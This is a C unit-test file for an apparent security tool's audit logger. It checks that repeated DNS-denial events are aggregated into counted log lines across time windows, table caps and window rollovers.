	size_t lines, repeat_lines;
	int64_t first_ms, repeat_ms;	/* the times of the two kinds */
};

static void
many_setup(struct many *m, size_t n)
{
	memset(m, 0, sizeof(*m));
	m->pol = load_rule("'dns': {'effect': 'prevent', "
	    "'blacklist': ['*.example']}");
	setup_id();
	m->sum = calloc(n, 1);
	ck_assert_ptr_nonnull(m->sum);
}

/* The denied query for name i, judged. */
static void
many_event(struct many *m, size_t i, int64_t time_ms)
{
	snprintf(m->name, sizeof(m->name), "n%06zu.example", i);
	event_init(&m->ev, EVENT_DNS);
	m->ev.process_path = "/usr/bin/dig";
	m->ev.pid = 77;
	m->ev.command = "dig @127.0.0.1 -f names";
	m->ev.user = "alice";
	m->ev.domain = m->name;
	m->ev.time_ms = time_ms;
	rules_eval(m->pol, &the_id, &m->ev, &m->v);
	ck_assert_int_eq((int)m->v.verdict, (int)VERDICT_PREVENT);
}

/*
 * Checks every line the sink holds, then empties it: each must be exactly
 * the record of its name (first ones at first_ms, repeats at repeat_ms
 * with their count), counts summed per name.
 */
static void
many_check_sink(struct many *m, size_t n)
{
	static char want[8192];
	struct audit_record rec;
	FILE *f = fopen(sink_path, "r");
	char *line = NULL, *p;
	size_t cap = 0, i, wlen;
	ssize_t len;
	unsigned long long count;

	ck_assert_ptr_nonnull(f);
	while ((len = getline(&line, &cap, f)) > 0) {
		p = strstr(line, "\"domain\":\"n");
		ck_assert_msg(p != NULL, "no domain: %s", line);
		i = strtoul(p + 11, NULL, 10);
		ck_assert_uint_lt(i, n);
		p = strstr(line, "\"count\":");
		ck_assert_ptr_nonnull(p);
		count = strtoull(p + 8, NULL, 10);
		many_event(m, i, m->first_ms);
		audit_record_from_verdict(&rec, &the_id, &m->ev, &m->v);
		rec.count = count;
		if (count > 1 || m->repeat_ms != 0) {
			rec.time_ms = count > 1 ? m->repeat_ms : m->first_ms;
			m->repeat_lines += count > 1;
		}
		wlen = audit_record_json(&rec, want, sizeof(want));
		ck_assert_uint_gt(wlen, 0);
		ck_assert_msg((size_t)len == wlen &&
		    memcmp(line, want, wlen) == 0,
		    "line %zu:\n got %s want %s", m->lines + 1, line, want);
		ck_assert_msg(m->sum[i] + count <= 255, "count overflow");
		m->sum[i] = (uint8_t)(m->sum[i] + count);
		m->lines++;
	}
	free(line);
	fclose(f);
	ck_assert_int_eq(truncate(sink_path, 0), 0);
}

static void
many_flush(struct many *m, struct audit *a, size_t n)
{
	audit_flush(a);
	many_check_sink(m, n);
}

static void
many_free(struct many *m)
{
	policy_free(m->pol);
	free(m->sum);
}

/* 200,000 distinct denials, three times each in a window: every name
 * out once at once, then once with count 2 when its window closes. */
START_TEST(test_many_distinct_aggregated)
{
	struct audit_config cfg = { 4096, 0, WINDOW };
	struct audit *a = audit_new(&cfg);
	struct audit_stats st;
	struct many m;
	size_t i, pass;

	ck_assert_ptr_nonnull(a);
	make_sink_path();
	ck_assert_int_eq(audit_add_sink(a, sink_path), 0);
	many_setup(&m, MANY);
	m.first_ms = T0;
	for (pass = 0; pass < 3; pass++)
		for (i = 0; i < MANY; i++) {
			many_event(&m, i, T0);
			audit_verdict(a, &the_id, &m.ev, &m.v,
			    T0 + (int64_t)pass);
			if (audit_backlogged(a))
				many_flush(&m, a, MANY);
		}
	many_flush(&m, a, MANY);
	ck_assert_uint_eq(m.lines, MANY);
	audit_stats(a, &st);
	ck_assert_uint_eq(st.submitted, 3 * MANY);
	ck_assert_uint_eq(st.aggregated, 2 * MANY);
	ck_assert_uint_eq(st.remembered, MANY);
	ck_assert_uint_eq(st.unaggregated, 0);

	/* Not yet closed: nothing. */
	audit_tick(a, T0 + WINDOW - 1, false);
	many_flush(&m, a, MANY);
	ck_assert_uint_eq(m.lines, MANY);

	/* Closed: the repeats, through a queue written out as it fills. */
	m.repeat_ms = T0 + WINDOW;
	audit_tick(a, T0 + WINDOW, false);
	many_flush(&m, a, MANY);
	ck_assert_uint_eq(m.lines, 2 * MANY);
	ck_assert_uint_eq(m.repeat_lines, MANY);
	for (i = 0; i < MANY; i++)
		ck_assert_msg(m.sum[i] == 3, "name %zu: count %u", i,
		    m.sum[i]);
	audit_stats(a, &st);
	ck_assert_uint_eq(st.dropped, 0);
	ck_assert_uint_eq(st.written, 2 * MANY);
	audit_free(a);
	unlink(sink_path);
	many_free(&m);
}
END_TEST

/* The same in one go; then windows with no repeats: forgotten, and news
 * again. */
START_TEST(test_many_expire_reuse)
{
	struct audit_config cfg = { MANY + 1, 0, WINDOW };
	struct audit *a = audit_new(&cfg);
	struct audit_stats st;
	struct many m;
	size_t i, pass;

	ck_assert_ptr_nonnull(a);
	make_sink_path();
	ck_assert_int_eq(audit_add_sink(a, sink_path), 0);
	many_setup(&m, MANY);
	m.first_ms = T0;
	for (pass = 0; pass < 3; pass++) {
		for (i = 0; i < MANY; i++) {
			many_event(&m, i, T0);
			audit_verdict(a, &the_id, &m.ev, &m.v,
			    T0 + (int64_t)pass);
		}
		many_flush(&m, a, MANY);
	}
	m.repeat_ms = T0 + WINDOW;
	audit_tick(a, T0 + WINDOW, false);
	many_flush(&m, a, MANY);
	ck_assert_uint_eq(m.lines, 2 * MANY);
	ck_assert_uint_eq(m.repeat_lines, MANY);
	for (i = 0; i < MANY; i++)
		ck_assert_msg(m.sum[i] == 3, "name %zu: count %u", i,
		    m.sum[i]);
	audit_stats(a, &st);
	ck_assert_uint_eq(st.dropped, 0);
	ck_assert_uint_eq(st.written, 2 * MANY);
	ck_assert_uint_eq(st.remembered, MANY);	/* for one more window */

	/* A window with no repeats: all forgotten, and a name is news
	 * again. */
	audit_tick(a, T0 + 2 * WINDOW, false);
	audit_stats(a, &st);
	ck_assert_uint_eq(st.remembered, 0);
	many_flush(&m, a, MANY);
	ck_assert_uint_eq(m.lines, 2 * MANY);
	m.first_ms = T0 + 2 * WINDOW + 5;
	m.repeat_ms = 0;
	many_event(&m, 7, m.first_ms);
	audit_verdict(a, &the_id, &m.ev, &m.v, m.first_ms);
	audit_verdict(a, &the_id, &m.ev, &m.v, m.first_ms);
	many_flush(&m, a, MANY);
	ck_assert_uint_eq(m.lines, 2 * MANY + 1);
	ck_assert_uint_eq(m.sum[7], 4);
	audit_free(a);		/* the last repeat, at its first's time */
	many_check_sink(&m, MANY);
	ck_assert_uint_eq(m.lines, 2 * MANY + 2);
	ck_assert_uint_eq(m.sum[7], 5);
	unlink(sink_path);
	many_free(&m);
}
END_TEST

/* Windows that close while their names keep coming, with no tick in
 * between: each lookup finds its expired record, sends its repeats and
 * starts a new one, leaving a tombstone behind; the index is rebuilt as
 * they pile up. Every name must still be found (two lines per name per
 * window, never a second "first" in one window) and no count lost. */
#define ROLL_NAMES 20000
#define ROLL_WINDOWS 10

START_TEST(test_many_windows_roll_lookup)
{
	struct audit_config cfg = { 2 * ROLL_NAMES, ROLL_NAMES + 1, WINDOW };
	struct audit *a = audit_new(&cfg);
	struct audit_stats st;
	struct many m;
	size_t i, w;
	int64_t t;

	ck_assert_ptr_nonnull(a);
	make_sink_path();
	ck_assert_int_eq(audit_add_sink(a, sink_path), 0);
	many_setup(&m, ROLL_NAMES);
	for (w = 0; w < ROLL_WINDOWS; w++) {
		t = T0 + (int64_t)w * WINDOW;
		m.first_ms = t;
		for (i = 0; i < ROLL_NAMES; i++) {
			many_event(&m, i, t);
			audit_verdict(a, &the_id, &m.ev, &m.v, t);
			audit_verdict(a, &the_id, &m.ev, &m.v, t);
		}
		many_flush(&m, a, ROLL_NAMES);
		/* The first of each name, and (after the first window) the
		 * repeat of the window before. */
		ck_assert_uint_eq(m.lines, (2 * w + 1) * ROLL_NAMES);
		audit_stats(a, &st);
		ck_assert_uint_eq(st.remembered, ROLL_NAMES);
	}
	/* The last window's repeats, as the shipper stops. */
	audit_tick(a, INT64_MAX, true);
	many_flush(&m, a, ROLL_NAMES);
	ck_assert_uint_eq(m.lines, 2 * ROLL_WINDOWS * ROLL_NAMES);
	for (i = 0; i < ROLL_NAMES; i++)
		ck_assert_msg(m.sum[i] == 2 * ROLL_WINDOWS, "name %zu: count %u",
		    i, m.sum[i]);
	audit_stats(a, &st);
	ck_assert_uint_eq(st.dropped, 0);
	ck_assert_uint_eq(st.unaggregated, 0);
	audit_free(a);
	many_free(&m);
	unlink(sink_path);
}
END_TEST

/* Past the cap records still go out, one by one, counted; those
 * remembered aggregate as before; every count adds up. */
START_TEST(test_cap_reached)
{
	struct audit_config cfg = { 100000, 1000, WINDOW };
	struct audit *a = audit_new(&cfg);
	struct audit_stats st;
	struct many m;
	size_t i, pass, n = 3000;

	ck_assert_ptr_nonnull(a);
	make_sink_path();
	ck_assert_int_eq(audit_add_sink(a, sink_path), 0);
	many_setup(&m, n);
	m.first_ms = T0;
	for (pass = 0; pass < 3; pass++)
		for (i = 0; i < n; i++) {
			many_event(&m, i, T0);
			audit_verdict(a, &the_id, &m.ev, &m.v, T0);
		}
	audit_stats(a, &st);
	ck_assert_uint_eq(st.remembered, 1000);
	ck_assert_uint_eq(st.unaggregated, 3 * (n - 1000));
	ck_assert_uint_eq(st.aggregated, 2 * 1000);
	m.repeat_ms = T0 + WINDOW;
	audit_tick(a, T0 + WINDOW, false);
	many_flush(&m, a, n);
	ck_assert_uint_eq(m.lines, 1000 * 2 + (n - 1000) * 3);
	ck_assert_uint_eq(m.repeat_lines, 1000);
	for (i = 0; i < n; i++)
		ck_assert_msg(m.sum[i] == 3, "name %zu: count %u", i,
		    m.sum[i]);
	audit_stats(a, &st);
	ck_assert_uint_eq(st.dropped, 0);
	audit_free(a);
	unlink(sink_path);
	many_free(&m);
}
END_TEST

/* One name every second for 35 s, ticked each second: a window's
 * repeats go out when it closes (a repeat that finds it closed closes
 * it), the next repeat opens the next. */
START_TEST(test_windows_roll)
{
	static const json_int_t want[] = { 1, 9, 1, 9, 1, 9, 1, 4 };
	struct audit *a = new_shipper(0);
	struct audit_record rec;
	struct audit_stats st;
	json_t *lines[16];
	size_t n, i;

	conn_record(&rec, "/usr/bin/curl", "10.0.0.1");
	for (i = 0; i < 35; i++) {
		audit_submit(a, &rec, T0 + 1000 * (int64_t)i);
		audit_tick(a, T0 + 1000 * (int64_t)i, false);
	}
	audit_tick(a, T0 + 45000, false);
	audit_tick(a, T0 + 60000, false);
	audit_stats(a, &st);
	ck_assert_uint_eq(st.remembered, 0);
	audit_flush(a);
	n = read_lines(sink_path, lines, 16);
	ck_assert_uint_eq(n, sizeof(want) / sizeof(want[0]));
	for (i = 0; i < n; i++) {
		ck_assert_int_eq(count_of(lines[i]), want[i]);
		ck_assert_str_eq(str_of(lines[i], "msg"), rec.msg);
	}
	free_lines(lines, n);
	/* Reused after the table was emptied. */
	audit_submit(a, &rec, T0 + 61000);
	audit_submit(a, &rec, T0 + 61001);
	audit_free(a);
	n = read_lines(sink_path, lines, 16);
	ck_assert_uint_eq(n, sizeof(want) / sizeof(want[0]) + 2);
	ck_assert_int_eq(count_of(lines[n - 2]), 1);
	ck_assert_int_eq(count_of(lines[n - 1]), 1);
	free_lines(lines, n);
	unlink(sink_path);
}
END_TEST

/*
 * The key computed from a verdict is the record's: a verdict and the
 * record built from it aggregate together, also when copy_field changes
 * the values (bytes that are not UTF-8, a name cut), and names that the
 * cut makes identical are one record.
 */
START_TEST(test_verdict_and_record_agree)
{
	struct policy *pol = load_rule("'dns': {'effect': 'prevent', "
	    "'blacklist': ['*.example']}");
	struct audit *a = new_shipper(0);
	struct audit_record rec;
	struct event ev;
	struct verdict v;
	json_t *lines[8];
	char name[2][1600], want[8192], got[8192];
	size_t n, i;
	FILE *f;

	for (i = 0; i < 2; i++) {
		memset(name[i], 'a', 1500);
		snprintf(name[i] + 1500, 100, "%c.example", i ? 'x' : 'y');
	}
	setup_id();
	event_init(&ev, EVENT_DNS);
	ev.process_path = "/tmp/\xff\xfe/evil";
	ev.pid = 9;
	ev.time_ms = T0;
	for (i = 0; i < 4; i++) {
		ev.domain = name[i % 2];
		rules_eval(pol, &the_id, &ev, &v);
		ck_assert_int_eq((int)v.verdict, (int)VERDICT_PREVENT);
		if (i < 2)
			audit_verdict(a, &the_id, &ev, &v, T0 + (int64_t)i);
		else {
			audit_record_from_verdict(&rec, &the_id, &ev, &v);
			audit_submit(a, &rec, T0 + (int64_t)i);
		}
	}
	audit_tick(a, T0 + WINDOW + 3, false);
	audit_flush(a);
	n = read_lines(sink_path, lines, 8);
	ck_assert_uint_eq(n, 2);
	ck_assert_int_eq(count_of(lines[0]), 1);
	ck_assert_int_eq(count_of(lines[1]), 3);
	free_lines(lines, n);
	/* The repeats' line is the first one's, but for time and count. */
	ev.domain = name[0];
	rules_eval(pol, &the_id, &ev, &v);
	audit_record_from_verdict(&rec, &the_id, &ev, &v);
	rec.time_ms = T0 + WINDOW + 3;
	rec.count = 3;
	ck_assert_uint_gt(audit_record_json(&rec, want, sizeof(want)), 0);
	f = fopen(sink_path, "r");
	ck_assert_ptr_nonnull(f);
	ck_assert_ptr_nonnull(fgets(got, sizeof(got), f));
	ck_assert_ptr_nonnull(fgets(got, sizeof(got), f));
	fclose(f);
	ck_assert_str_eq(got, want);
	audit_free(a);
	unlink(sink_path);
	policy_free(pol);
}
END_TEST

static Suite *
audit_suite(void)
{
	Suite *s = suite_create("audit");
	TCase *tc;

	tc = tcase_create("messages");
	tcase_add_loop_test(tc, test_messages, 0,
	    sizeof(msg_cases) / sizeof(msg_cases[0]));
	tcase_add_test(tc, test_message_hijack);
	suite_add_tcase(s, tc);

	tc = tcase_create("json");
	tcase_add_test(tc, test_json_process_record);
	tcase_add_test(tc, test_json_network_record);
	tcase_add_test(tc, test_json_dns_record);
	tcase_add_test(tc, test_json_filesystem_record);
	tcase_add_test(tc, test_identity_from_event);
	tcase_add_test(tc, test_json_too_small);
	tcase_add_test(tc, test_json_invalid_utf8);
	tcase_add_test(tc, test_json_long_command);
	suite_add_tcase(s, tc);

	tc = tcase_create("shipper");
	tcase_add_test(tc, test_flood_aggregated);
	tcase_add_test(tc, test_different_not_merged);
	tcase_add_test(tc, test_new_window_emits_again);
	tcase_add_test(tc, test_queue_bounded);
	tcase_add_test(tc, test_free_flushes);
	tcase_add_test(tc, test_sink_stderr);
	tcase_add_test(tc, test_sink_refused);
	tcase_add_test(tc, test_windows_roll);
	tcase_add_test(tc, test_verdict_and_record_agree);
	suite_add_tcase(s, tc);

	tc = tcase_create("table");
	tcase_set_timeout(tc, 120);
	tcase_add_test(tc, test_many_distinct_aggregated);
	tcase_add_test(tc, test_many_expire_reuse);
	tcase_add_test(tc, test_cap_reached);
	tcase_add_test(tc, test_many_windows_roll_lookup);
	suite_add_tcase(s, tc);
	return s;
}

int
main(void)
{
	SRunner *sr = srunner_create(audit_suite());
	int failed;

	srunner_run_all(sr, CK_NORMAL);
	failed = srunner_ntests_failed(sr);
	srunner_free(sr);
	return failed > 0 ? EXIT_FAILURE : EXIT_SUCCESS;
}
